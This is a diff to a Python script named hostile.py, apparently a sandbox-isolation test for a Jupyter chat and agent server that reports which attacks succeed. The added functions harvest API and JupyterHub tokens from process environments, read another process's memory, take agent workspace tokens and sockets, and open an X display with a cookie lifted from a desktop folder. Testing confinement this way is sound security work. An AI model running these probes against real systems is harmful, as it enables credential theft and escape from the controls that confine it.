@@ -3,8 +3,9 @@
     python hostile.py HINTS
 
 *HINTS* is JSON: the folders of `servers.Dirs`, `url`, `pid` (of the server), `prefix` (of its environment),
-`socket`, `abstract`, and `waiting`: a chat whose call waits for an approval. Prints what it got as JSON:
-names of attacks, with a proof of each. Imports nothing of ours.
+`socket`, `abstract`, `hub` (its address), `desktops` and `agents` (folders), and `waiting`: a chat whose call
+waits for an approval. Prints what it got as JSON: names of attacks, with a proof of each. Imports nothing of
+ours.
 """
 
 from __future__ import annotations
@@ -18,16 +19,18 @@ import re
 import signal
 import socket
 import sqlite3
+import struct
 import sys
 import tempfile
 import urllib.request
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterable, Iterator
 from pathlib import Path
 from typing import Any
 
 HINTS: dict[str, Any] = {}
 PTRACE_ATTACH, PTRACE_DETACH = 16, 17
 SECRETS = re.compile(r"(?:API_KEY|API_TOKEN)=\S+")
+HUB_TOKEN = re.compile(r"JUPYTERHUB_API_TOKEN=(\S+)")
 
 
 def place(name: str, *below: str) -> Path:
@@ -41,6 +44,11 @@ def read_all(pattern: str) -> str:
         with contextlib.suppress(OSError):
             texts.append(Path(path).read_bytes().decode("utf-8", "replace"))
     return "\n".join(texts)
+
+
+def in_desktops(name: str) -> list[str]:
+    """Return files of that name in the folders of desktops."""
+    return [path for place in HINTS["desktops"] for path in glob.glob(f"{place}/chatd-desktop-*/{name}")]
 
 
 def request(path: str, token: str, body: object = None) -> Any:
@@ -94,6 +102,21 @@ def environment() -> str:
     return "\n".join(SECRETS.findall(read_all("/proc/*/environ").replace("\0", "\n")))
 
 
+def environment_of_the_server() -> str:
+    return "\n".join(SECRETS.findall(read_all(f"/proc/{HINTS['pid']}/environ").replace("\0", "\n")))
+
+
+def the_hub() -> str:
+    """Ask the hub who is let in, as the user's server may."""
+    own = "".join(f"{name}={value}\n" for name, value in os.environ.items())
+    for token in set(HUB_TOKEN.findall(own + read_all("/proc/*/environ").replace("\0", "\n"))):
+        with contextlib.suppress(OSError):
+            asked = urllib.request.Request(HINTS["hub"], headers={"Authorization": f"token {token}"})
+            with urllib.request.urlopen(asked, timeout=5) as reply:
+                return reply.read().decode()
+    return ""
+
+
 def command_line() -> str:
     return read_all(f"/proc/{HINTS['pid']}/cmdline")
 
@@ -118,12 +141,38 @@ def chats_through_descriptors() -> str:
     return ""
 
 
+def descriptors_of_the_server() -> str:
+    return " ".join(os.listdir(f"/proc/{HINTS['pid']}/fd"))
+
+
+def memory_of_the_server() -> str:
+    """Read the beginning of its first mapping."""
+    start = int(Path(f"/proc/{HINTS['pid']}/maps").read_text().partition("-")[0], 16)
+    with open(f"/proc/{HINTS['pid']}/mem", "rb") as memory:
+        memory.seek(start)
+        return memory.read(16).hex()
+
+
 def chats_through_root() -> str:
     return read_all(f"/proc/[0-9]*/root{place('database')}")[:15]
 
 
 def key_file() -> str:
     return place("data", "jupyter_chatd", "keys.json").read_text()
+
+
+def a_file_among_the_chats() -> str:
+    """As one that says which files of projects are trusted."""
+    return _new_file(place("data", "jupyter_chatd"))
+
+
+def token_of_a_workspace() -> str:
+    """Of its agent, which does all that one asks of it."""
+    return read_all(f"{HINTS['agents']}/*/token")
+
+
+def socket_of_a_workspace() -> str:
+    return _connect_one(path for path in glob.glob(f"{HINTS['agents']}/*/*") if Path(path).is_socket())
 
 
 def key_of_trusted_notebooks() -> str:
@@ -152,6 +201,46 @@ def a_kernel() -> str:
         return "".join(told)
     finally:
         client.stop_channels()
+
+
+def key_of_a_kernel() -> str:
+    return json.loads(read_all(f"{place('runtime')}/kernel-*.json"))["key"]
+
+
+def the_desktop() -> str:
+    """Speak with the chat's desktop, whose programs nothing confines."""
+    for address in in_desktops("rfb.socket"):
+        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as sock:
+            sock.settimeout(5)
+            sock.connect(address)
+            return sock.recv(12).decode()
+    return ""
+
+
+def the_display() -> str:
+    """Be let in by an X server, with a cookie that is found in its desktop's folder."""
+    for path in in_desktops("Xauthority"):
+        cookie = Path(path).read_bytes()[-16:]
+        for address in glob.glob("/tmp/.X11-unix/X*"):
+            for one in (address, f"\0{address}"):
+                with contextlib.suppress(OSError):
+                    return _open_display(one, cookie)
+    return ""
+
+
+def _open_display(address: str, cookie: bytes) -> str:
+    """Return the version of the protocol that an X server speaks, once it has taken the cookie."""
+    name = b"MIT-MAGIC-COOKIE-1"
+    with socket.socket(socket.AF_UNIX) as sock:
+        sock.settimeout(5)
+        sock.connect(address)
+        sock.sendall(
+            struct.pack("<BxHHHHxx", ord("l"), 11, 0, len(name), len(cookie)) + name + b"\0\0" + cookie
+        )
+        is_in, major, minor = struct.unpack("<BxHH", sock.recv(6))
+    if is_in != 1:
+        raise ConnectionRefusedError
+    return f"{major}.{minor}"
 
 
 def signals() -> str:
@@ -186,6 +275,13 @@ def _connect(address: str) -> str:
     with socket.socket(socket.AF_UNIX) as sock:
         sock.connect(address)
     return "connected"
+
+
+def _connect_one(addresses: Iterable[str]) -> str:
+    for address in addresses:
+        with contextlib.suppress(OSError):
+            return _connect(address)
+    return ""
 
 
 def code_of_the_environment() -> str:
@@ -238,9 +334,11 @@ def _appended(path: Path) -> str:
 
 ATTACKS: tuple[Callable[[], str], ...] = (
     *(token_of_the_runtime_file, token_of_the_log, token_of_another_server, cookie_secret, configuration),
-    *(environment, command_line),
+    *(environment, environment_of_the_server, the_hub, command_line),
+    *(descriptors_of_the_server, memory_of_the_server, signals, debugger, program_of_the_kernel),
     *(chats, change_of_the_chats, chats_through_descriptors, chats_through_root, key_file),
-    *(key_of_trusted_notebooks, cookies_of_the_browser, a_kernel, signals, debugger, program_of_the_kernel),
+    *(a_file_among_the_chats, token_of_a_workspace, socket_of_a_workspace, the_desktop, the_display),
+    *(key_of_trusted_notebooks, cookies_of_the_browser, a_kernel, key_of_a_kernel),
     *(socket_of_another_program, abstract_socket, code_of_the_environment, programs, a_kernel_of_its_own),
     *(an_extension_of_the_front_end, startup_of_kernels, startup_of_shells),
     *(configuration_of_the_next_server, chats_under_another_name, approval),
